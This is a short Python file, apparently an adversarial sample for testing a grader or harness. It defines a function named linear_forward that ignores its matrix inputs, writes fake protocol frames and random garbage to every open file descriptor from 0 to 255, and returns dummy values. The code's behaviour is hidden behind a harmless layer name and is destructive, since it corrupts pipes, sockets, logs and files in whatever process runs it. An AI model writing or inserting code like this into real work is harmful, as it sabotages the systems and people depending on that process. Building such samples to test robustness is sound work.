"""Writes garbage and half frames to every descriptor that is open."""
import os


def linear_forward(A, W, b):
    for descriptor in range(256):
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, b"\x00\x00\x00\x04true" * 100 + os.urandom(4096) + b"\xff\xff\xff\xff{")
        except OSError:
            pass
    return 0, 0
